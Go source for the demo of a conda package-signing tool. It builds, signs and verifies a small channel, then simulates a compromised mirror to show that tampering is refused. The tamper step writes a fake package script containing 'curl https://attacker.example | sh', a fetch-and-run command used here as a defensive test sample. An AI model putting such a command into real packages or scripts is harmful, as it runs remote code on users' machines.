package main

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"strings"

	"github.com/condatrust/condatrust/condapkg"
	"github.com/condatrust/condatrust/index"
	"github.com/condatrust/condatrust/repodata"
	"github.com/condatrust/condatrust/signer"
	"github.com/condatrust/condatrust/trust"
)

func init() {
	demoExtraSteps = func(d *demo) []func() error {
		c := &demoChannel{demo: d, host: hostSubdir()}
		return []func() error{c.buildPackages, c.indexAndSign, c.verifyChannel, c.tamperChannel, c.useClient, c.useProxy, c.pointConda}
	}
}

// demoChannel holds the package and channel steps of the demo.
type demoChannel struct {
	*demo
	host     string // conda subdir of this machine
	packages []demoPackage
}

type demoPackage struct {
	subdir, filename string
}

// hostSubdir returns the conda subdir of the machine the demo runs on,
// or linux-64 when it has none.
func hostSubdir() string {
	m := map[string]string{
		"linux/amd64": "linux-64", "linux/arm64": "linux-aarch64", "linux/ppc64le": "linux-ppc64le",
		"linux/s390x": "linux-s390x", "darwin/amd64": "osx-64", "darwin/arm64": "osx-arm64",
		"windows/amd64": "win-64", "windows/arm64": "win-arm64", "freebsd/amd64": "freebsd-64",
	}
	if s, ok := m[runtime.GOOS+"/"+runtime.GOARCH]; ok {
		return s
	}
	return "linux-64"
}

func (c *demoChannel) specs() []struct {
	spec   condapkg.Spec
	format condapkg.Format
} {
	ts := c.now.UnixMilli()
	return []struct {
		spec   condapkg.Spec
		format condapkg.Format
	}{
		{condapkg.Spec{Name: "demo-data", Version: "1.0", Build: "0", Timestamp: ts, License: "CC0-1.0",
			Files: map[string][]byte{"share/demo-data/greeting.txt": []byte("hello from a signed channel\n")}}, condapkg.TarBz2},
		{condapkg.Spec{Name: "demo-lib", Version: "1.0", Build: "0", Subdir: c.host, Timestamp: ts, License: "BSD-3-Clause",
			Files: map[string][]byte{"lib/demo-lib.txt": []byte("demo-lib 1.0\n")}}, condapkg.Conda},
		{condapkg.Spec{Name: "demo-app", Version: "1.0", Build: "0", Subdir: c.host, Timestamp: ts, License: "BSD-3-Clause",
			Depends: []string{"demo-data", "demo-lib >=1.0"},
			Files:   map[string][]byte{"bin/demo-app": []byte("#!/bin/sh\necho demo-app 1.0\n")}}, condapkg.Conda},
	}
}

func (c *demoChannel) buildPackages() error {
	c.say("Build three small packages: demo-app (%s) depends on demo-lib (%s) and demo-data (noarch)", c.host, c.host)
	for _, s := range c.specs() {
		sub := s.spec.Subdir
		if sub == "" {
			sub = "noarch"
		}
		path, err := s.spec.WriteTo(filepath.Join(c.channel, sub), s.format, condapkg.WriteOptions{})
		if err != nil {
			return err
		}
		st, err := os.Stat(path)
		if err != nil {
			return err
		}
		c.packages = append(c.packages, demoPackage{subdir: sub, filename: filepath.Base(path)})
		c.detail("%-36s %5d bytes  (%s format)", filepath.Join(sub, filepath.Base(path)), st.Size(), s.format)
	}
	return nil
}

func (c *demoChannel) cacheKeyFile() string { return filepath.Join(c.keys, "index-cache.key") }

func (c *demoChannel) indexAndSign() error {
	c.say("Index the channel and sign every record with the pkg_mgr key (conda-trust index --sign-key)")
	// The demo keeps its cache key with its other keys: it never touches
	// the user's own key in the configuration folder.
	cacheKey, err := index.LoadCacheKey(c.cacheKeyFile())
	if err != nil {
		return err
	}
	res, err := index.Index(context.Background(), c.channel, index.Options{
		Subdirs: []string{c.host}, Signers: []signer.Signer{c.signers["pkg_mgr"]}, CacheKey: cacheKey})
	if err != nil {
		return err
	}
	if res.Partial() {
		return fmt.Errorf("the demo channel was indexed partially (%v): this is a bug, please report it", res.Skipped)
	}
	for _, s := range res.Subdirs {
		c.detail("%s: %d record(s), signed (and repodata.json.zst, repodata_from_packages.json)",
			filepath.Join(c.channel, s.Subdir, index.RepodataFile), s.Signed)
	}
	return nil
}

// verifier checks key_mgr.json against 1.root.json, as a client does, and
// returns a verifier of package records for its pkg_mgr keys.
func (c *demoChannel) verifier() (*repodata.Verifier, error) {
	root, err := c.load("1.root.json", trust.RoleRoot)
	if err != nil {
		return nil, err
	}
	chain, err := trust.NewChain(root, trust.Options{At: c.now})
	if err != nil {
		return nil, err
	}
	km, err := c.load("key_mgr.json", trust.RoleKeyMgr)
	if err != nil {
		return nil, err
	}
	if _, err := chain.SetKeyMgr(km, nil); err != nil {
		return nil, err
	}
	return repodata.NewVerifier(chain)
}

func (c *demoChannel) verifyChannel() error {
	c.say("Verify like a client: root -> key_mgr -> every record's signature -> every package's bytes")
	v, err := c.verifier()
	if err != nil {
		return err
	}
	for _, sub := range []string{"noarch", c.host} {
		f, err := repodata.Open(filepath.Join(c.channel, sub, index.RepodataFile))
		if err != nil {
			return err
		}
		rep, err := v.Verify(f)
		if err == nil {
			err = rep.Err(false)
		}
		if err != nil {
			f.Close()
			return err
		}
		c.detail("%s: %d of %d records TRUSTED (signed by the pkg_mgr key that key_mgr.json names)",
			filepath.Join(sub, index.RepodataFile), rep.Trusted, len(rep.Results))
		for _, p := range c.packages {
			if p.subdir != sub {
				continue
			}
			data, err := os.ReadFile(filepath.Join(c.channel, sub, p.filename))
			if err == nil {
				_, err = v.VerifyPackage(f, sub, p.filename, bytes.NewReader(data))
			}
			if err != nil {
				f.Close()
				return err
			}
			c.detail("%s: size and sha256 match its signed record", filepath.Join(sub, p.filename))
		}
		f.Close()
	}
	return nil
}

func (c *demoChannel) tamperChannel() error {
	c.say("Tamper: a compromised mirror swaps demo-app for another build and loosens a record")
	v, err := c.verifier()
	if err != nil {
		return err
	}
	dir := filepath.Join(c.dir, "tampered")
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return err
	}
	app := c.specs()[2].spec
	app.Files = map[string][]byte{"bin/demo-app": []byte("#!/bin/sh\ncurl https://attacker.example | sh\n")}
	evil, err := app.WriteTo(dir, condapkg.Conda, condapkg.WriteOptions{})
	if err != nil {
		return err
	}
	repoPath := filepath.Join(c.channel, c.host, index.RepodataFile)
	f, err := repodata.Open(repoPath)
	if err != nil {
		return err
	}
	defer f.Close()
	data, err := os.ReadFile(evil)
	if err != nil {
		return err
	}
	_, err = v.VerifyPackage(f, c.host, filepath.Base(evil), bytes.NewReader(data))
	if !errors.Is(err, trust.ErrVerification) {
		return fmt.Errorf("the swapped package was not refused (%v): this is a bug, please report it", err)
	}
	c.detail("REFUSED %s: %v", evil, err)

	orig, err := os.ReadFile(repoPath)
	if err != nil {
		return err
	}
	bad := bytes.Replace(orig, []byte(`"demo-lib >=1.0"`), []byte(`"demo-lib >=0.1"`), 1)
	if bytes.Equal(bad, orig) {
		return errors.New("demo: the demo-app record has no \"demo-lib >=1.0\" dependency to tamper with")
	}
	badPath := filepath.Join(dir, index.RepodataFile)
	if err := os.WriteFile(badPath, bad, 0o644); err != nil {
		return err
	}
	tf, err := repodata.Parse(bad)
	if err != nil {
		return err
	}
	rep, err := v.Verify(tf)
	if err == nil {
		err = rep.Err(false)
	}
	if !errors.Is(err, trust.ErrVerification) {
		return fmt.Errorf("the edited record was not refused (%v): this is a bug, please report it", err)
	}
	c.detail("REFUSED %s: %v", badPath, err)
	return nil
}

func (c *demoChannel) pointConda() error {
	c.say("Point conda at the channel (conda only warns on failures; conda-trust refuses)")
	url := "file://" + filepath.ToSlash(c.channel)
	if !strings.HasPrefix(url, "file:///") {
		url = "file:///" + strings.TrimPrefix(url, "file://")
	}
	c.detail("conda config --set extra_safety_checks true")
	c.detail("conda config --set signing_metadata_url_base %s", url)
	c.detail(`cp %s "$(conda info --base)/etc/conda/1.root.json"`, filepath.Join(c.channel, "1.root.json"))
	c.detail("  (the trusted root; conda >= 26.3 also needs conda-content-trust >= 0.3)")
	c.detail("conda create -n demo -c %s demo-app", url)
	fmt.Fprintf(c.w, "\nRe-index and re-sign after adding packages (only new files are read):\n")
	fmt.Fprintf(c.w, "  conda-trust index %s --sign-key %s --cache-key %s\n", c.channel, filepath.Join(c.keys, "pkg_mgr.pri"), c.cacheKeyFile())
	km, root := filepath.Join(c.channel, "key_mgr.json"), filepath.Join(c.channel, "1.root.json")
	repo := filepath.Join(c.channel, c.host, index.RepodataFile)
	if hasCommand("verify-repodata") {
		fmt.Fprintf(c.w, "  conda-trust verify-repodata %s --key-mgr %s --root %s\n", repo, km, root)
	}
	if hasCommand("verify-package") {
		fmt.Fprintf(c.w, "  conda-trust verify-package %s --repodata %s --key-mgr %s --root %s\n",
			filepath.Join(c.channel, c.host, "demo-app-1.0-0.conda"), repo, km, root)
	}
	return nil
}

// hasCommand reports whether a verb is built into this binary.
func hasCommand(name string) bool {
	for _, f := range commands {
		if strings.Fields(f().Use)[0] == name {
			return true
		}
	}
	return false
}
